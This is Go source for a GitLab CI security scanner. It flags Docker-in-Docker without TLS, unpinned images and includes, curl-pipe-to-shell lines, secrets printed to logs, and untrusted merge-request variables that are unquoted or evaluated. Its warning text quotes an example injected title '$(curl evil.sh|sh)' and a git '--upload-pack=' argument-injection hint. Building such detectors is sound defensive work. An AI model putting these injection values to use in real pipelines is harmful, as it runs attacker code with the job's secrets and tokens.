package pipelines

import (
	"context"
	"fmt"
	"strconv"
	"strings"

	"gopkg.in/yaml.v3"

	"github.com/shiftward/shiftward/scanners"
)

// glReserved are the top-level keys of .gitlab-ci.yml that are not jobs.
var glReserved = map[string]bool{
	"default": true, "include": true, "stages": true, "variables": true, "workflow": true,
	"image": true, "services": true, "cache": true, "before_script": true, "after_script": true, "spec": true,
}

// glFile is a GitLab CI file being checked.
type glFile struct {
	d    *doc
	hits []hit
	// globalServices and globalVars are what jobs inherit.
	globalServices *yaml.Node
	globalVars     *yaml.Node
	// tlsOff are DOCKER_TLS_CERTDIR: "" and DOCKER_HOST tcp://...:2375
	// entries in effect in a job that runs a docker:dind service.
	tlsOff []pair
	seen   map[*yaml.Node]bool
}

// checkGitLab runs every GitLab CI rule.
func checkGitLab(d *doc) []hit {
	g := &glFile{d: d, seen: map[*yaml.Node]bool{}}
	g.globalVars = val(d.root, "variables")
	g.globalServices = val(d.root, "services")
	if s := val(val(d.root, "default"), "services"); s != nil {
		g.globalServices = s
	}
	// GitLab CI files may hold "spec:" inputs in a first document; the
	// configuration is then the second. parseDoc reads the first: a
	// spec-only header has nothing for these rules.
	for _, p := range pairs(d.root) {
		name := p.k.Value
		switch name {
		case "include":
			g.checkInclude(p.v)
		case "image":
			g.checkImage(p.k, p.v, "the default image")
		case "services":
			g.checkServices(p.v, "the default services")
		case "before_script", "after_script":
			g.checkScripts(p.v, "top-level "+name)
		case "default":
			g.checkJob("default", p.v)
		default:
			if !glReserved[name] && p.v != nil && p.v.Kind == yaml.MappingNode {
				g.checkJob(name, p.v)
			}
		}
	}
	{
		for _, v := range g.tlsOff {
			g.hits = append(g.hits, hit{
				rule: ruleGLDindNoTLS,
				msg: fmt.Sprintf("`%s: %q` makes the Docker-in-Docker service listen without TLS on port 2375: "+
					"any container in the job's network (another service, a compromised build step) can drive a "+
					"privileged Docker daemon and escape to the runner host. Keep TLS on: `DOCKER_TLS_CERTDIR: "+
					"\"/certs\"` with `DOCKER_HOST: tcp://docker:2376` (the default of recent docker:dind images).",
					v.k.Value, v.v.Value),
				identity: "dind-tls:" + v.k.Value + "=" + v.v.Value,
				anchors:  []anchor{at(v.k.Line, v.k.Column, v.v.Line, v.v.Column+len(v.v.Value))},
			})
		}
	}
	return g.hits
}

func (g *glFile) checkJob(name string, job *yaml.Node) {
	for _, p := range pairs(job) {
		switch p.k.Value {
		case "image":
			g.checkImage(p.k, p.v, "job "+name)
		case "services":
			g.checkServices(p.v, "job "+name)
		case "script", "before_script", "after_script":
			g.checkScripts(p.v, name+"."+p.k.Value)
		}
	}
	if name == "default" || strings.HasPrefix(name, ".") && val(job, "script") == nil {
		return // a template: checked where it is in effect
	}
	services := val(job, "services")
	if services == nil {
		services = g.globalServices
	}
	if !runsDind(services) {
		return
	}
	jobVars := val(job, "variables")
	g.collectVariables(jobVars, nil)
	g.collectVariables(g.globalVars, jobVars)
}

// runsDind reports whether a services list starts a Docker-in-Docker daemon.
func runsDind(services *yaml.Node) bool {
	for _, it := range items(services) {
		if n, ok := imageName(it); ok && strings.Contains(strings.ToLower(n.Value), "dind") {
			return true
		}
	}
	return false
}

// collectVariables remembers variables that switch Docker's TLS off,
// except those overridden by a job's own variables.
func (g *glFile) collectVariables(v, overrides *yaml.Node) {
	for _, p := range pairs(v) {
		if k, _ := get(overrides, p.k.Value); k != nil {
			continue
		}
		value := p.v
		if value != nil && value.Kind == yaml.MappingNode {
			value = val(value, "value")
		}
		if value == nil || value.Kind != yaml.ScalarNode {
			continue
		}
		off := false
		switch p.k.Value {
		case "DOCKER_TLS_CERTDIR":
			off = strings.TrimSpace(value.Value) == ""
		case "DOCKER_HOST":
			off = strings.HasPrefix(value.Value, "tcp://") && strings.HasSuffix(value.Value, ":2375")
		}
		if off && !g.seen[p.k] {
			g.seen[p.k] = true
			g.tlsOff = append(g.tlsOff, pair{p.k, value})
		}
	}
}

// imageName returns the image reference of an image: value (a string or
// a mapping with name:) and its node.
func imageName(v *yaml.Node) (*yaml.Node, bool) {
	v = resolve(v)
	if v == nil {
		return nil, false
	}
	if v.Kind == yaml.MappingNode {
		v = val(v, "name")
	}
	if v == nil || v.Kind != yaml.ScalarNode || strings.TrimSpace(v.Value) == "" {
		return nil, false
	}
	return v, true
}

// splitImage cuts an image reference into name, tag and digest.
func splitImage(ref string) (name, tag, digest string) {
	ref = strings.TrimSpace(ref)
	if i := strings.Index(ref, "@"); i >= 0 {
		ref, digest = ref[:i], ref[i+1:]
	}
	slash := strings.LastIndex(ref, "/")
	if i := strings.LastIndex(ref, ":"); i > slash {
		return ref[:i], ref[i+1:], digest
	}
	return ref, "", digest
}

func (g *glFile) checkImage(k, v *yaml.Node, where string) {
	n, ok := imageName(v)
	if !ok {
		return
	}
	g.checkImageRef(n, where, "image")
}

func (g *glFile) checkImageRef(n *yaml.Node, where, what string) {
	ref := n.Value
	if strings.Contains(ref, "$") {
		return // a variable: its value is not known here
	}
	name, tag, digest := splitImage(ref)
	if digest != "" {
		return
	}
	h := hit{
		rule:     ruleGLUnpinnedImage,
		identity: what + ":" + where + ":" + ref,
		anchors:  []anchor{at(n.Line, n.Column, n.Line, n.Column+len(ref))},
	}
	switch {
	case tag == "" || strings.EqualFold(tag, "latest"):
		h.msg = fmt.Sprintf("The %s `%s` (%s) has no version, so every pipeline pulls whatever `latest` is that "+
			"day: builds stop being reproducible, and a compromised or hijacked image runs with the job's "+
			"CI_JOB_TOKEN and variables. Pin a version tag, and better its digest (`%s:<tag>@sha256:...`).",
			what, ref, where, name)
	default:
		h.severity = scanners.SeverityLow
		h.msg = fmt.Sprintf("The %s `%s` (%s) is pinned by tag only; a tag can be pushed again with other "+
			"content. Pin it by digest too (`%s:%s@sha256:...`) so the job runs the image that was reviewed.",
			what, ref, where, name, tag)
	}
	g.hits = append(g.hits, h)
}

func (g *glFile) checkServices(v *yaml.Node, where string) {
	for _, it := range items(v) {
		n, ok := imageName(it)
		if !ok {
			continue
		}
		g.checkImageRef(n, where, "service image")
	}
}

// checkInclude flags includes whose content can change without a change to
// this repository.
func (g *glFile) checkInclude(v *yaml.Node) {
	for _, it := range items(v) {
		switch it.Kind {
		case yaml.ScalarNode:
			if isURL(it.Value) {
				g.remoteInclude(it, it.Value, false)
			}
		case yaml.MappingNode:
			if _, rv := get(it, "remote"); rv != nil && rv.Kind == yaml.ScalarNode {
				_, integrity := get(it, "integrity")
				g.remoteInclude(rv, rv.Value, integrity != nil)
			}
			if pk, pv := get(it, "project"); pk != nil && pv != nil && pv.Kind == yaml.ScalarNode {
				g.projectInclude(it, pk, pv)
			}
			if _, cv := get(it, "component"); cv != nil && cv.Kind == yaml.ScalarNode {
				g.componentInclude(cv)
			}
		}
	}
}

func isURL(s string) bool {
	l := strings.ToLower(strings.TrimSpace(s))
	return strings.HasPrefix(l, "https://") || strings.HasPrefix(l, "http://")
}

func (g *glFile) remoteInclude(n *yaml.Node, url string, integrity bool) {
	if integrity {
		return
	}
	sev := scanners.SeverityUnknown
	extra := ""
	if strings.HasPrefix(strings.ToLower(url), "http://") {
		sev = scanners.SeverityHigh
		extra = " It is fetched over plain HTTP, so anyone on the network path can change it."
	}
	g.hits = append(g.hits, hit{
		rule:     ruleGLRemoteInclude,
		severity: sev,
		msg: fmt.Sprintf("The pipeline includes `%s`, a remote file fetched on every run. Whoever controls that "+
			"URL decides what this pipeline runs, with its variables and CI_JOB_TOKEN.%s Vendor the file into the "+
			"repository (`include: local:`), or add `integrity: sha256-...` so GitLab refuses other content.",
			truncate(url, 160), extra),
		identity: "remote:" + url,
		anchors:  []anchor{at(n.Line, n.Column, n.Line, n.Column+len(url))},
	})
}

func (g *glFile) projectInclude(it, pk, pv *yaml.Node) {
	rk, rv := get(it, "ref")
	if rv != nil && rv.Kind == yaml.ScalarNode && isFullSHA(strings.TrimSpace(rv.Value)) {
		return
	}
	h := hit{
		rule:     ruleGLRemoteInclude,
		identity: "project:" + pv.Value,
	}
	if rk == nil {
		h.msg = fmt.Sprintf("The pipeline includes files from project `%s` without a `ref:`, so it runs whatever "+
			"that project's default branch holds at the time: anyone who can push there changes this pipeline. "+
			"Pin `ref:` to a full commit SHA.", pv.Value)
		h.anchors = []anchor{at(pk.Line, pk.Column, pv.Line, pv.Column+len(pv.Value))}
	} else {
		h.severity = scanners.SeverityLow
		h.msg = fmt.Sprintf("The pipeline includes files from project `%s` at `%s`, a branch or tag that can move. "+
			"Pin `ref:` to a full commit SHA so the included jobs are the ones that were reviewed.", pv.Value, rv.Value)
		h.anchors = []anchor{at(rk.Line, rk.Column, rv.Line, rv.Column+len(rv.Value)), at(pk.Line, pk.Column, pv.Line, 0)}
	}
	g.hits = append(g.hits, h)
}

func (g *glFile) componentInclude(cv *yaml.Node) {
	_, version, ok := strings.Cut(cv.Value, "@")
	if ok && isFullSHA(version) {
		return
	}
	h := hit{
		rule:     ruleGLRemoteInclude,
		identity: "component:" + cv.Value,
		anchors:  []anchor{at(cv.Line, cv.Column, cv.Line, cv.Column+len(cv.Value))},
	}
	if !ok || version == "~latest" || version == "" {
		h.msg = fmt.Sprintf("The CI/CD component `%s` is used at its latest release, so a new release changes this "+
			"pipeline without review. Pin a commit SHA (or at least an exact version).", cv.Value)
	} else {
		h.severity = scanners.SeverityLow
		h.msg = fmt.Sprintf("The CI/CD component `%s` is pinned to a version, which its maintainers can re-tag. "+
			"Pin the commit SHA for a pipeline that only changes through review.", cv.Value)
	}
	g.hits = append(g.hits, h)
}

// scriptLine is one shell line of a script: its source line, the scalar it
// belongs to and the text.
type scriptLine struct {
	n    *yaml.Node
	line int
	text string
}

// scriptLines flattens script: (a string, a list, nested lists) into
// source lines. Every level is read: GitLab flattens nested lists ten deep,
// and a cap here would let a script hide below it; the recursion is bounded
// by the document's depth, which nest.DecodeYAML checked.
func (g *glFile) scriptLines(v *yaml.Node, depth int) []scriptLine {
	v = resolve(v)
	if v == nil {
		return nil
	}
	var out []scriptLine
	switch v.Kind {
	case yaml.ScalarNode:
		if v.Tag == "!reference" {
			return nil
		}
		for ln := v.Line; ln <= g.d.end(v); ln++ {
			if ln == v.Line && isBlock(v) {
				continue
			}
			text := g.d.line(ln)
			if ln == v.Line {
				text = text[min(max(v.Column-1, 0), len(text)):]
			}
			out = append(out, scriptLine{n: v, line: ln, text: text})
		}
	case yaml.SequenceNode:
		if v.Tag == "!reference" {
			return nil
		}
		for _, c := range v.Content {
			out = append(out, g.scriptLines(c, depth+1)...)
		}
	}
	return out
}

func (g *glFile) checkScripts(v *yaml.Node, where string) {
	for _, sl := range g.scriptLines(v, 0) {
		text := sl.text
		trim := strings.TrimSpace(text)
		if strings.HasPrefix(trim, "#") {
			continue
		}
		// The scalar's column offset: text may start mid-line.
		off := len(g.d.line(sl.line)) - len(text)
		if loc := curlPipeShell.FindStringIndex(text); loc != nil {
			g.hits = append(g.hits, curlHit(sl.line, []int{loc[0] + off, loc[1] + off}, strings.TrimSpace(text[loc[0]:loc[1]]), where))
		}
		for _, name := range printedSecrets(text) {
			g.hits = append(g.hits, hit{
				rule: ruleGLSecretEcho,
				msg: fmt.Sprintf("This line prints `$%s` to the job log (%s). Job logs are readable by everyone "+
					"who can see the pipeline, and GitLab masks a variable only when it is marked masked and printed "+
					"exactly as stored; encoded, partial or unmasked values appear in clear. Remove the print, or pipe "+
					"the value into the command that needs it (`--password-stdin`).", name, where),
				identity: "echo:" + where + ":" + name,
				anchors:  []anchor{at(sl.line, off+1, sl.line, len(g.d.line(sl.line))+1)},
			})
		}
		uses := untrustedUses(text)
		for _, u := range uses {
			if !u.evaluated && u.quoted {
				continue
			}
			h := hit{
				rule:     ruleGLUntrustedVariable,
				identity: "mrvar:" + where + ":" + u.name + ":" + strings.ReplaceAll(trim, `"`, ""),
				anchors:  []anchor{at(sl.line, off+u.start+1, sl.line, off+u.end+1)},
			}
			if u.evaluated {
				h.msg = fmt.Sprintf("`$%s` (%s) is text the merge request's author chooses, and this line runs it "+
					"as code (`eval`, `sh -c`, an interpreter's `-c`/`-e`): a title or branch name such as "+
					"`$(curl evil.sh|sh)` runs in this job with its variables and CI_JOB_TOKEN. Pass it as data "+
					"(an argument or environment variable the code reads), never inside code.", u.name, where)
			} else {
				h.severity = scanners.SeverityMedium
				h.msg = fmt.Sprintf("`$%s` (%s) is text the merge request's author chooses, expanded unquoted: the "+
					"shell splits it into words and expands wildcards, so a crafted value adds options or arguments "+
					"to the command (argument injection, e.g. `--upload-pack=...` for git). Quote it: `\"$%s\"`.",
					u.name, where, u.name)
				h.fix = g.quoteFix(sl, uses, h.identity)
				h.fixGroup = "quote:" + strconv.Itoa(sl.line)
			}
			g.hits = append(g.hits, h)
		}
	}
}

// quoteFix puts double quotes around every unquoted use of an untrusted
// variable on one line.
func (g *glFile) quoteFix(sl scriptLine, uses []varUse, id string) func(context.Context, *pinCache) *scanners.Fix {
	return func(context.Context, *pinCache) *scanners.Fix {
		d := g.d
		n := sl.n
		if n.Style&(yaml.DoubleQuotedStyle|yaml.SingleQuotedStyle) != 0 && !isBlock(n) {
			return nil // escaping inside quoted YAML scalars is not worth the risk
		}
		line := d.line(sl.line)
		off := len(line) - len(sl.text)
		newLine := line
		for i := len(uses) - 1; i >= 0; i-- { // right to left keeps offsets valid
			w := uses[i]
			if w.evaluated || w.quoted {
				continue
			}
			a, b := off+w.start, off+w.end
			newLine = newLine[:a] + `"` + newLine[a:b] + `"` + newLine[b:]
		}
		e := newEdits()
		e.replace(sl.line, newLine)
		fx := e.fix(d, "quote the variable so its value stays one argument")
		return verified(d, fx, checkGitLab, ruleGLUntrustedVariable, id)
	}
}
